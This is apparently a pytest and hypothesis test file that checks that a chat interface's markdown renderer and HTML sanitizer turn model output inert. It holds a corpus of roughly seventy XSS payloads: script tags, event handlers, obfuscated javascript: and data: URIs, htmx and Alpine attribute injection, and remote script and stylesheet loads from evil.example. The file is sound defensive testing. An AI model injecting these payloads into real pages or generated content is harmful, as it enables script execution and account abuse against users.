"""Model markdown made inert: an XSS corpus and the render-then-sanitize fixed point."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.unit.html_safety import assert_safe
from ui.markdown import render_markdown, sanitize_html
from ui.md_blocks import MarkdownBlocks

ROOT = Path(__file__).resolve().parents[2]


# --- XSS corpus ------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<input autofocus onfocus="alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<details open ontoggle="alert(1)">',
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java script:alert(1)>)",
    "[a]( javascript:alert(1) )",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/png;base64,iVBORw0KGgo=)",
    "[a](file:///etc/passwd)",
    '[a](https://example.com "onmouseover=alert(1)")',
    '[a](https://example.com" onmouseover="alert(1))',
    '[a](https://example.com/"><script>alert(1)</script>)',
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://tracker.example/pixel.gif)",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "[![x](https://tracker.example/p.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<https://example.com/" onclick="alert(1)>',
    'hx-get="/x" hx-trigger="load"',
    '<div hx-get="/chat/delete" hx-trigger="load">x</div>',
    '<div id="chat-turns" hx-swap-oob="true">pwned</div>',
    '<p id="chat-input" hx-swap-oob="outerHTML">x</p>',
    '<span data-hx-post="/x" data-hx-trigger="load">x</span>',
    '<div x-data="{}" x-init="alert(1)" @click="alert(1)" :class="x">x</div>',
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "# <a href=javascript:alert(1)>h</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    "[a](https://example.com){onclick=alert(1)}",
    '<style>@import "https://evil.example/x.css";</style>',
]


def test_corpus_is_big_enough() -> None:
    assert len(XSS_PAYLOADS) >= 50


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_as_markdown_is_inert(payload: str) -> None:
    html = render_markdown(payload)
    assert_safe(html)
    assert sanitize_html(html) == html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_as_raw_html_is_sanitized(payload: str) -> None:
    html = sanitize_html(payload)
    assert_safe(html)
    assert sanitize_html(html) == html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_a_stream_is_inert(payload: str) -> None:
    blocks = MarkdownBlocks()
    out = [html for ch in f"Intro\n\n{payload}\n\nOutro" for html in blocks.feed(ch)] + blocks.finish()
    for html in out:
        assert_safe(html)


# --- hypothesis: idempotence -----------------------------------------------------------------------

FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "![i](http://x/i.png)",
    'hx-get="/x" hx-trigger="load"', '<div id="chat-turns" hx-swap-oob="true">', "</div>", "<a href=", '"', "'",
    "`", "```", "```python\n", "~~~", "*", "**", "_", "~~", "#", "# ", "## ", "\n", "\n\n", " ", "    ", "\t", "-", "- ",
    "1. ", "> ", "|", "| a | b |\n|---|:-:|\n", "---", "***", "===", "[", "]", "(", ")", "<", ">", "&", "&amp;",
    "&#106;", "&lt;", "\\", "<http://example.com>", "<mailto:a@b.c>", "javascript:", "data:", "é", "\u00a0", "€",
    "日本", "🙂", "\u200b", "\r\n", "\r", "\x00", "[x]: /u", "https://example.com", "a", "word", "x y z",
]  # fmt: skip
markdownish = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=5)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_render_is_a_fixed_point_of_the_sanitizer(text: str) -> None:
    html = render_markdown(text)
    assert sanitize_html(html) == html
    assert_safe(html)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_render_arbitrary_text_is_a_fixed_point(text: str) -> None:
    html = render_markdown(text)
    assert sanitize_html(html) == html


HTML_FRAGMENTS = [
    "<pre>", "</pre>", "<pre class=code-block>", "<table>", "</table>", "<tr>", "<td>", "<th>", "</td>", "<tbody>",
    "<thead>", "<caption>", "<col>", "<p>", "</p>", "<a href=https://x>", "<a href='javascript:x'>", "</a>", "<li>",
    "<ul>", "<ol start=3>", "</ul>", "<code>", "</code>", "<span class=hl-k>", "</span>", "<br>", "<hr>", "<h1>",
    "</h1>", "<div>", "</div>", "<blockquote>", "<em>", "</em>", "<del>", "<img src=x>", "<script>", "</script>",
    "<style>", "<svg>", "<math>", "<select>", "<option>", "<textarea>", "<!--", "-->", "<![CDATA[", "]]>",
    "<noscript>", "<template>", "<form>", "<button>", "<p id=x>", "<body>", "<title>", "<plaintext>", "<xmp>",
    "<iframe>", "<listing>", "\n", "\n\n", " ", "x", "&amp;", "&", "<", ">", '"', "'", "\x00", "\r", "&nbsp;",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(HTML_FRAGMENTS + FRAGMENTS), st.text(max_size=3)), max_size=30).map("".join))
def test_sanitize_html_is_idempotent_on_raw_html(text: str) -> None:
    once = sanitize_html(text)
    assert sanitize_html(once) == once
    assert_safe(once)


def test_a_leading_newline_in_pre_survives_reparsing() -> None:
    # A parser drops the first newline after <pre>; the canonical step writes it back each time.
    assert sanitize_html("<pre>\n\nx</pre>") == "<pre>\n\nx</pre>"
    assert sanitize_html(sanitize_html("<pre>\n\nx</pre>")) == "<pre>\n\nx</pre>"


